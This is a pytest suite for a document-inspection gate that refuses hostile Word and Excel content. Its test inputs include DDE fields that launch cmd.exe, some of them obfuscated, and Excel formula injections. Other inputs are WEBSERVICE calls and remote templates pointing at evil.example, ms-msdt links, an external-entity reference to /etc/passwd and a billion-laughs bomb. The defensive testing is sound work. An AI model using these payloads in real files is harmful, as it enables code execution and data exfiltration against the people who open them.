"""Word and Excel: what would run, fetch or hide something is refused; what people ordinarily write passes."""

from __future__ import annotations

import io
import random

import pytest

from qingyuan.kernel.gate.inspect import Inspection, RefusedContent, inspect
from tests.kernel.gate import samples
from tests.kernel.gate.samples import W, add, change, field, in_body, put, related, typed

ALLOW = frozenset({"docx", "xlsx"})
DOCX = samples.docx()
XLSX = samples.xlsx()
MS = "http://schemas.microsoft.com/office"


def look(data: bytes) -> Inspection:
    return inspect(io.BytesIO(data), name="", allow=ALLOW)


def codes(data: bytes) -> tuple[str, ...]:
    try:
        look(data)
    except RefusedContent as refused:
        return refused.codes
    return ()


def part(xml: str) -> bytes:
    """The docx with one more part, as footnotes, headers and the like are."""
    return put(DOCX, {"word/footnotes.xml": f"<w:footnotes {W}>{xml}</w:footnotes>"})


def formula(text: str) -> bytes:
    return change(XLSX, "xl/worksheets/sheet1.xml", lambda xml: xml.replace("<f>", f"<f>{text}</f><f>", 1))


def test_footnotes_with_ordinary_fields_pass():
    assert codes(part(field("PAGEREF _Toc1 \\h") + field("TOC \\o &quot;1-3&quot; \\h \\z \\u"))) == ()


@pytest.mark.parametrize(
    "instruction",
    ["PAGE", "DATE \\@ &quot;yyyy&quot;", "HYPERLINK &quot;https://www.mee.gov.cn/dde&quot;",
     "ADDIN ZOTERO_ITEM {dde: 1}", "SEQ 图 \\* ARABIC", "REF DDE_1", "= SUM(ABOVE)"],
)  # fmt: skip
def test_ordinary_fields_pass(instruction):
    assert codes(in_body(field(instruction))) == ()
    assert codes(in_body(f'<w:fldSimple w:instr="{instruction}"/>')) == ()


@pytest.mark.parametrize(
    ("xml", "code"),
    [
        (field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"), "dde"),
        (field("dde excel book.xlsx"), "dde"),
        (field("D", "DEA", "UTO cmd"), "dde"),
        (field("  ", "\t", "DDE cmd"), "dde"),
        (field("D\u200bDE cmd"), "dde"),
        (field(" " * 9000, "DDEAUTO cmd"), "dde"),
        ('<w:fldSimple w:instr=" DDEAUTO cmd "/>', "dde"),
        ('<w:fldChar w:fldCharType="begin"/><w:delInstrText>DDE cmd</w:delInstrText>', "dde"),
        (
            (
                '<w:fldChar w:fldCharType="begin"/><w:instrText>DD</w:instrText><w:delInstrText>x</w:delInstrText>'
                '<w:instrText>E cmd</w:instrText><w:fldChar w:fldCharType="end"/>'
            ),
            "dde",
        ),
        ("<w:instrText>DDE cmd</w:instrText>", "dde"),
        ('<w:fldChar w:fldCharType="begin"/><w:t>DDE cmd</w:t>', "dde"),
        (field("PAGE").replace("<w:t>1</w:t>", field("DDE cmd")), "dde"),
        (field("</w:instrText>" + field("QUOTE 68 68 69") + "<w:instrText> cmd"), "hidden_field"),
        (
            (
                '<w:fldChar w:fldCharType="begin"/><mc:AlternateContent xmlns:mc="m"><w:instrText>x</w:instrText>'
                "</mc:AlternateContent><w:instrText>DDE cmd</w:instrText>"
            ),
            "hidden_field",
        ),
        (field("LINK Excel.Sheet.12 &quot;C:\\\\a.xlsx&quot;"), "ole_object"),
        (field("DATABASE \\d &quot;a&quot;"), "connections"),
        (field("INCLUDEPICTURE &quot;http://evil.example/a.png&quot; \\d"), "remote_field"),
        (field("INCLUDEPICTURE \\d \\\\\\\\evil\\\\a.png"), "remote_field"),
        (field("INCLUDETEXT &quot;file://evil/a.docx&quot;"), "remote_field"),
        (field("INCLUDETEXT &quot;</w:instrText>" + field("AUTHOR") + "<w:instrText>&quot;"), "remote_field"),
        (field("HYPERLINK &quot;javascript:alert(1)&quot;"), "hyperlink_scheme"),
    ],
)
def test_hostile_fields_are_refused_wherever_they_stand(xml, code):
    assert codes(in_body(xml)) == (code,)
    assert codes(part(xml)) == (code,)


def test_local_included_picture_only_warns():
    for path in ("C:\\\\图\\\\a.png", "a.png", "file:///C:\\\\a.png"):
        found = look(in_body(field(f"INCLUDEPICTURE &quot;{path}&quot;")))
        assert len(found.warnings) == 1


def test_field_in_another_encoding_is_read():
    xml = f'<?xml version="1.0" encoding="UTF-16"?><w:footnotes {W}>{field("DDEAUTO cmd")}</w:footnotes>'
    assert codes(put(DOCX, {"word/footnotes.xml": xml.encode("utf-16")})) == ("dde",)
    assert codes(put(DOCX, {"word/notes.dat": xml.encode("utf-16-be")})) == ("dde",)


@pytest.mark.parametrize(
    ("xml", "code"),
    [
        ('<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "xml_dtd"),
        ('<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>', "xml_dtd"),
        ('<?xml version="1.0" encoding="utf-7"?><a/>', "xml_encoding"),
        ('<?xml version="1.0" encoding="gb18030"?><a/>', "xml_encoding"),
        ("<a><b></a>", "xml_malformed"),
        ("", ""),
    ],
)
def test_xml_is_guarded_in_every_part(xml, code):
    expected = (code,) if code else ()
    assert codes(put(DOCX, {"customXml/item1.xml": xml})) == expected
    assert codes(put(XLSX, {"xl/other.xml": xml})) == expected
    if code == "xml_dtd":
        assert codes(put(DOCX, {"customXml/item1.xml": xml.encode("utf-16")})) == ("xml_dtd",)


def test_billion_laughs_and_endless_tokens_end_early():
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<!DOCTYPE a [<!ENTITY a0 "ha">{laughs}]><a>&a9;</a>'
    assert codes(put(DOCX, {"docProps/app.xml": bomb})) == ("xml_dtd",)
    noise = random.Random(2).randbytes(100_000).hex()
    assert codes(put(DOCX, {"docProps/app.xml": f'<a b="{noise * 30}"/>'}))[0] == "too_complex"


@pytest.mark.parametrize(
    ("kind", "target", "code"),
    [
        ("attachedTemplate", "https://evil.example/t.dotm", "remote_template"),
        ("attachedTemplate", "\\\\evil\\t.dotm", "remote_template"),
        ("attachedTemplate", "file://evil/t.dotm", "remote_template"),
        ("image", "http://evil.example/a.png", "remote_image"),
        ("image", "file:///C:/a.png", "remote_image"),
        ("frame", "http://evil.example/", "external_relationship"),
        ("oleObject", "http://evil.example/a", "ole_object"),
        ("subDocument", "a.docx", "external_relationship"),
        ("video", "http://evil.example/a", "external_relationship"),
        (f"{MS}/2006/relationships/unheardOf", "http://evil.example", "external_relationship"),
        ("hyperlink", "javascript:alert(1)", "hyperlink_scheme"),
        ("hyperlink", "ms-msdt:/id", "hyperlink_scheme"),
        ("hyperlink", "search-ms:query=a", "hyperlink_scheme"),
        ("mailMergeSource", "file:///C:/a.mdb", "mail_merge"),
    ],
)
def test_references_to_outside(kind, target, code):
    assert codes(related(DOCX, kind, target, source="word/settings.xml")) == (code,)
    assert codes(related(DOCX, kind, target, source="word/header9.xml")) == (code,)


def test_reference_that_claims_to_be_inside_but_is_not():
    assert codes(related(DOCX, "image", "http://evil.example/a.png", external=False)) == ("remote_image",)


@pytest.mark.parametrize(
    ("kind", "target", "warned"),
    [
        ("hyperlink", "https://www.mee.gov.cn/", False),
        ("hyperlink", "mailto:demo@example.com", False),
        ("hyperlink", "附件1.docx", False),
        ("hyperlink", "file:///C:/a.docx", True),
        ("attachedTemplate", "file:///C:\\模板\\公文.dotx", True),
        ("attachedTemplate", "Normal.dotm", True),
    ],
)
def test_ordinary_references_pass(kind, target, warned):
    assert bool(look(related(DOCX, kind, target, source="word/settings.xml")).warnings) is warned


@pytest.mark.parametrize(
    ("kind", "code"),
    [
        (f"{MS}/2006/relationships/vbaProject", "macros"),
        (f"{MS}/2006/relationships/wordVbaData", "macros"),
        (f"{MS}/2006/relationships/ui/extensibility", "custom_ui"),
        (f"{MS}/2007/relationships/ui/extensibility", "custom_ui"),
        (f"{MS}/2006/relationships/keyMapCustomizations", "custom_ui"),
        (f"{MS}/2011/relationships/webextensiontaskpanes", "web_extension"),
        ("oleObject", "ole_object"),
        ("package", "embedded_file"),
        ("control", "activex"),
        ("aFChunk", "alt_chunk"),
        ("http://purl.oclc.org/ooxml/officeDocument/relationships/oleObject", "ole_object"),
    ],
)
def test_parts_that_run_or_hide(kind, code):
    assert codes(related(DOCX, kind, "other.dat", external=False)) == (code,)


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("word/vbaProject.bin", b"any", "macros"),
        ("word/VBAPROJECT.BIN", b"any", "macros"),
        ("word/harmless.dat", samples.compound("VBA", "dir"), "macros"),
        ("word/media/image7.png", samples.compound("Other"), "ole_object"),
        ("word/embeddings/oleObject1.bin", b"any", "ole_object"),
        ("word/embeddings/Microsoft_Excel_Sheet1.xlsx", b"any", "embedded_file"),
        ("word/activeX/activeX1.bin", b"any", "activex"),
        ("customUI/customUI14.xml", b"<customUI/>", "custom_ui"),
        ("word/part.dat", b"{\\rtf1 a}", "embedded_file"),
        ("word/part.dat", b"%PDF-1.7", "embedded_file"),
        ("word/part.mht", b"MIME-Version: 1.0\r\n", "embedded_file"),
        ("word/document.xml/[0].piece", b"a", "archive_path"),
    ],
)
def test_parts_by_name_and_by_content(name, content, code):
    assert code in codes(put(DOCX, {name: content}))


@pytest.mark.parametrize(
    ("content_type", "code"),
    [
        ("application/vnd.ms-office.vbaProject", "macros"),
        ("application/vnd.ms-office.activeX+xml", "activex"),
        ("application/vnd.openxmlformats-officedocument.oleObject", "ole_object"),
        ("application/vnd.ms-excel.macrosheet+xml", "macros"),
    ],
)
def test_declared_content_types(content_type, code):
    assert codes(typed(DOCX, "word/a.dat", content_type)) == (code,)


def test_macro_enabled_file_renamed_to_docx():
    word = change(
        DOCX,
        "[Content_Types].xml",
        lambda xml: xml.replace(
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
    )
    with pytest.raises(RefusedContent) as caught:
        inspect(io.BytesIO(word), name="方案.docx", allow=ALLOW)
    assert caught.value.code == "macros"
    assert "docm" in caught.value.reason


def test_package_with_two_main_documents_or_none():
    assert codes(related(DOCX, "officeDocument", "word/other.xml", source="", external=False))[0] == (
        "office_damaged"
    )
    parts = samples.parts_of(DOCX)
    del parts["word/document.xml"]
    assert codes(samples.zipped(parts)) == ("office_damaged",)


@pytest.mark.parametrize(
    ("xml", "code"),
    [
        ("<w:object><o:OLEObject xmlns:o='o' ProgID='Package'/></w:object>", "ole_object"),
        ("<w:altChunk/>", "alt_chunk"),
        ("<w:control/>", "activex"),
        ("<w:mailMerge/>", "mail_merge"),
        ("<wp15:webVideoPr xmlns:wp15='v' embeddedHtml='a'/>", "external_relationship"),
        ("<v:imagedata xmlns:v='v' src='http://evil.example/a.png'/>", "remote_image"),
        ("<v:fill xmlns:v='v' src='\\\\evil\\a.png'/>", "remote_image"),
        ("<v:imagedata xmlns:v='v' xmlns:o='o' o:href='http://evil.example/a.png'/>", "remote_image"),
        ("<v:imagedata xmlns:v='v' src='media/image1.png'/>", ""),
        ("<v:shape xmlns:v='v' href='https://www.mee.gov.cn/'/>", ""),
    ],
)
def test_elements_in_word(xml, code):
    assert codes(in_body(xml)) == ((code,) if code else ())


@pytest.mark.parametrize(
    ("svg", "passes"),
    [
        ("<svg xmlns='s'><path d='M0 0'/><use href='#a'/><rect fill='url(#g)'/></svg>", True),
        ("<svg xmlns='s'><script>1</script></svg>", False),
        ("<svg xmlns='s' onload='a()'/>", False),
        ("<svg xmlns='s'><image href='http://evil.example/a.png'/></svg>", False),
        ("<svg xmlns='s'><rect fill='url(http://evil.example/)'/></svg>", False),
    ],
)
def test_svg_twins_of_pictures(svg, passes):
    assert codes(put(DOCX, {"word/media/image2.svg": svg})) == (() if passes else ("svg_active",))


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("cmd|' /C calc'!A0", "dde"),
        ("[1]!cmd|'/c calc'!A0", "dde"),
        ("1+MSEXCEL|'\\..\\..\\cmd.exe'!A1", "dde"),
        ("WEBSERVICE(&quot;http://evil.example/&quot;&amp;A1)", "dangerous_formula"),
        ("_xlfn.WEBSERVICE (A1)", "dangerous_formula"),
        ("_xlfn.IMAGE(A1)", "dangerous_formula"),
        ("CALL(&quot;urlmon&quot;)", "dangerous_formula"),
        ("EXEC(&quot;calc&quot;)", "dangerous_formula"),
        ("RTD(&quot;a&quot;)", "dangerous_formula"),
        ("SUM([a)+cmd|'a'!b", "dde"),
        ("SUM('[a]b'!A1)+cmd|'a'!b", "dde"),
        ("SUM('[a'!A1)+cmd|'a]'!b", "dde"),
        ("Table1[a&quot;b]+cmd|'x&quot;'!A", "dde"),
        ("'cmd|/c calc'!A0", "dde"),
        ("'[1]能耗 (演示)'!A1+Table1['[a'|b]", ""),
        ("cmd()", "dangerous_formula"),
        ("IF(A1,&quot;cmd|a!b WEBSERVICE(&quot;,1)", ""),
        ("HYPERLINK(&quot;https://www.mee.gov.cn/&quot;)", ""),
        ("MYIMAGE(1)+RECALL(2)", ""),
        ("SUM(Table1[a|b])+SUM(Table1[[#This Row],[x|y]])", ""),
    ],
)
def test_formulas(text, code):
    assert codes(formula(text)) == ((code,) if code else ())


@pytest.mark.parametrize(
    ("element", "code"),
    [
        ("<definedName name='Auto_Open'>A1</definedName>", "macros"),
        ("<definedName name='_xlnm.Auto_Open'>A1</definedName>", "macros"),
        ("<definedName name='a' xlm='1'>A1</definedName>", "macros"),
        ("<definedName name='a'>WEBSERVICE(A1)</definedName>", "dangerous_formula"),
        ("<x:f xmlns:x='x'>cmd|'a'!b</x:f>", "dde"),
        ("<ddeLink ddeService='cmd' ddeTopic='/c calc'/>", "dde"),
        ("<oleLink/>", "ole_object"),
        ("<oleObjects><oleObject progId='Package'/></oleObjects>", "ole_object"),
        ("<connection id='1' url='http://evil.example'/>", "connections"),
        ("<DataMashup>UEsDBA==</DataMashup>", "connections"),
        ("<definedName name='总计'>Sheet1!$A$1</definedName>", ""),
    ],
)
def test_elements_in_excel(element, code):
    assert codes(put(XLSX, {"xl/other.xml": f"<a>{element}</a>"})) == ((code,) if code else ())
    assert codes(put(XLSX, {"xl/other.bin": f"<a>{element}</a>"})) == ((code,) if code else ())


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("xl/connections.xml", "connections"),
        ("xl/queryTables/queryTable1.xml", "connections"),
        ("xl/macrosheets/sheet1.xml", "macros"),
        ("xl/vbaProject.bin", "macros"),
        ("xl/activeX/activeX1.xml", "activex"),
        ("xl/ctrlProps/ctrlProp1.xml", ""),
        ("xl/printerSettings/printerSettings1.bin", ""),
    ],
)
def test_parts_of_excel(name, code):
    content = "<a/>" if name.endswith("xml") else "x\0"
    assert codes(put(XLSX, {name: content})) == ((code,) if code else ())


@pytest.mark.parametrize("kind", ["xlMacrosheet", "xlIntlMacrosheet"])
def test_excel_4_macro_sheets_under_another_name(kind):
    data = related(
        XLSX,
        f"{MS}/2006/relationships/{kind}",
        "worksheets/sheet9.xml",
        source="xl/workbook.xml",
        external=False,
    )
    assert codes(data) == ("macros",)


def test_links_to_other_workbooks_only_warn():
    for target in ("能耗.xlsx", "file:///D:/能耗.xlsx"):
        found = look(related(XLSX, "externalLinkPath", target, source="xl/externalLinks/externalLink1.xml"))
        assert "其他工作簿" in found.warnings[0]


def test_time_grows_with_length_only():
    gap = " " * 8_000
    fields = field(f"HYPERLINK{gap}") + field(f"HYPERLINK {gap} \\l{gap}") + field(f"INCLUDEPICTURE{gap}")
    assert set(codes(in_body(fields * 20))) <= {"remote_field"}
    nested = "(" + "[" * 20_000 + "]" * 20_000
    assert codes(put(XLSX, {"xl/other.xml": f"<a>{f'<f>{nested}</f>' * 4}</a>"})) == ()


def test_endless_formula():
    assert codes(formula("+".join(["A1"] * 40_000))) == ("dangerous_formula",)


def test_all_problems_are_named_at_once_with_their_places():
    data = put(
        related(in_body(field("DDE cmd")), "image", "http://evil.example/a.png"),
        {"word/vbaProject.bin": b"a"},
    )
    with pytest.raises(RefusedContent) as caught:
        look(add(data, {"word/header1.xml": field("DDE cmd")}, into="hdr"))
    assert set(caught.value.codes) == {"dde", "remote_image", "macros"}
    assert "（3）" in caught.value.reason
    assert "word/document.xml" in caught.value.reason
    assert "word/header1.xml" in caught.value.reason
